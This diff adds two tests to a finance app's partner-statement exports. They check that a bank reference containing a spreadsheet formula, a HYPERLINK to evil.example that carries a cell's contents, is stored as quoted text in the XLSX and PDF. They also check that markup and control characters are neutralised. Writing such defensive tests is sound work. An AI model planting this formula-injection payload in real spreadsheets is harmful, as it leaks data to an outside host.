@@ -551,3 +551,58 @@ def test_it_seeds_last_month_s_statements_one_confirmed_one_disputed_and_nothing
     by_status = dict(Statement.objects.values_list("status", "number"))
     assert by_status == {"confirmed": outcome["confirmed"], "disputed": outcome["disputed"]}
     assert StatementDispute.objects.get().comment == "此笔金额与我方账面不符，请核对。"
+
+
+def test_it_writes_a_bank_reference_that_looks_like_a_formula_as_text_in_the_xlsx_and_the_pdf(world):
+    from openpyxl import load_workbook
+
+    from qudao.finance import payments
+
+    # given: a payment whose bank reference a spreadsheet would take for a formula, and a partner
+    # name with markup characters; the month is over
+    formula = '=HYPERLINK("http://evil.example/?"&B1,"付款凭证")'
+    world.dist_js.legal_name = "A&B <b>贸易</b> 有限公司"
+    world.dist_js.save()
+    today = timezone.localdate()
+    last_month = (today.replace(day=1) - timezone.timedelta(days=1)).replace(day=10)
+    payments.record_payment(
+        partner=world.dist_js,
+        data={"amount": "300.00", "received_on": last_month.isoformat(), "bank_reference": formula},
+        actor=world.finance,
+    )
+    statement = statements.generate_statement(partner=world.dist_js, month=last_month)
+
+    # when
+    sheet = load_workbook(io.BytesIO(statements.statement_xlsx(statement))).active
+    pdf = statements.statement_pdf(statement)
+
+    # then: the entry's description is the exact text in a string cell; the amount a number
+    entry = next(row for row in sheet.iter_rows(min_row=14) if row[5].value == formula)
+    assert (entry[5].data_type, entry[5].quotePrefix) == ("s", True)
+    assert (entry[6].value, entry[6].data_type) == (-300, "n")
+    # and the PDF prints the texts as they are, no markup read from them (pdf_text separates the
+    # runs of Latin and Chinese text with spaces)
+    text = "".join(pdf_text(pdf).split())
+    assert "A&B<b>贸易</b>有限公司" in text
+    assert '=HYPERLINK("http://evil.example/?"&B1,"付款凭证")' in text
+
+
+def test_it_downloads_the_statement_when_stored_text_holds_control_characters(world):
+    from openpyxl import load_workbook
+
+    # given: a ledger note and a partner name holding control characters, stored before the rule
+    september_to_november(world.dist_js)
+    LedgerEntry.objects.filter(reference="PAY-1").update(note="回款\x0b\x07")
+    type(world.dist_js).objects.filter(pk=world.dist_js.pk).update(legal_name="南京金陵\x1b商贸有限公司")
+    world.dist_js.refresh_from_db()
+    statement = statements.generate_statement(partner=world.dist_js, month=OCTOBER)
+
+    # when
+    sheet = load_workbook(io.BytesIO(statements.statement_xlsx(statement))).active
+    pdf = statements.statement_pdf(statement)
+
+    # then: both are written, the characters shown as U+FFFD
+    assert sheet["B2"].value == f"南京金陵\ufffd商贸有限公司 ({world.dist_js.code})"
+    assert sheet["F14"].value == "回款\ufffd\ufffd"
+    assert pdf.startswith(b"%PDF-")
+    assert "南京金陵\ufffd商贸有限公司" in pdf_text(pdf)
